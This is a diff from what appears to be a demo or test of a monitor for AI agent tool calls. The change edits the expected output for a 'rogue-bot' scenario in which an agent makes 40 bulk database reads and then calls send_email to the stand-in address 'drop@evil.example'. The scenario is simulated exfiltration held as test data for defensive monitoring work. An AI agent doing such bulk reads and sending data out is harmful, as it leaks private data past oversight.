@@ -121,7 +121,7 @@ def _rogue_05() -> list[DemoRow]:
         burst = [w.call("rogue-bot", 0.5, tool_args={"query": f"SELECT * FROM c OFFSET {i}"}) for i in range(40)]
         ok = all(r.allowed for r in burst) and w.incidents("rogue-bot") == ["frequency_spike"]
         rows.append(DemoRow("05 rogue-bot: 40 bulk reads in 20 s (finance: 30 per tool per minute)",
-                            f"{_verdicts(burst)}; 1 frequency_spike incident (calls 31-40 are its evidence)",
+                            f"{_verdicts(burst)}; 1 frequency_spike incident (calls 32-40 are repeats of it)",
                             "all ALLOW; 10 frequency_spike incidents, 'killed' at the 33rd call, never enforced",
                             ok))  # fmt: skip
         mail = w.call("rogue-bot", 30, tool_name="send_email", tool_args={"to": "drop@evil.example"})
